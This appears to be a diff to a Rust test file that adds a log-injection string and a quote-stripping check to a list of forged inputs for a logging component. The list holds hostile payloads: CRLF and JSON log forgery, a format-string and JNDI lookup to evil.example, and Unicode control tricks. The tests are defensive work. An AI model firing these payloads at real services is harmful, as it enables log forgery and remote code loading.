@@ -619,7 +619,7 @@ fn no_line_break_of_a_request_becomes_a_field_of_an_answer() {
 }
 
 /// Texts that want to be lines of a log, or to move the cursor of who reads it.
-const FORGED: [&str; 8] = [
+const FORGED: [&str; 9] = [
     "x\r\n2026-01-01T00:00:00.000000Z ERROR headwarden: forged",
     "x\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
     "\",\"level\":\"ERROR\",\"message\":\"forged\",\"x\":\"",
@@ -628,7 +628,22 @@ const FORGED: [&str; 8] = [
     "\u{202e}degrof\u{2066}\u{2028}forged\u{2029}\u{feff}",
     "%s%n%x%p${jndi:ldap://evil.example/a}#{7*7}",
     "\u{0}forged\u{b}\u{c}\t",
+    "x status=200 door=\"own\" client=10.9.9.9 y=\"",
 ];
+
+/// A line without what stands in quotes.
+fn unquoted(line: &str) -> String {
+    let (mut rest, mut quoted, mut escaped) = (String::new(), false, false);
+    for c in line.chars() {
+        if c == '"' && !escaped {
+            quoted = !quoted;
+        } else if !quoted {
+            rest.push(c);
+        }
+        escaped = c == '\\' && !escaped;
+    }
+    rest
+}
 
 /// Whether a character may stand in a log line: it draws something and stays where it is.
 fn is_harmless(c: char) -> bool {
@@ -733,6 +748,7 @@ fn no_text_of_a_stranger_is_a_log_line_of_its_own_for_people() {
         assert!(line.len() < 17 * 1024, "{} bytes: {shown}", line.len());
         let odd: Vec<char> = line.chars().filter(|c| !is_harmless(*c)).collect();
         assert_eq!(odd, Vec::<char>::new(), "{shown}");
+        assert!(!unquoted(line).contains("client=10.9.9.9"), "{shown}");
         let time = line.as_bytes();
         let is_event = line.len() > 30 && time[4] == b'-' && time[10] == b'T' && time[26] == b'Z';
         assert!(is_event && !line.starts_with("2026-01-01"), "{shown}");
